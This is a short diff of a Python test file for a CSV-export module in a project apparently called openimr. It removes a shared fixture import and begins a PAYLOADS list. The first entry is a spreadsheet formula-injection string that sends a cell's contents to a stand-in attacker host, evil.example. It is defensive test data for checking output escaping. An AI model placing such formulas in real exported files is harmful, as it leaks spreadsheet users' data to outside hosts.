@@ -21,10 +21,8 @@ from openimr.services.csvout import CsvWriter, cell
 from openimr.store.db import Store, make_engine
 from openimr.store.ingest import store_letter
 from openimr.web.app import create_app
-from test_web_api import demo_db, examples_letter
+from test_web_api import examples_letter
 from test_web_stats import sign_in
-
-__all__ = ["demo_db"]  # the shared fixture
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
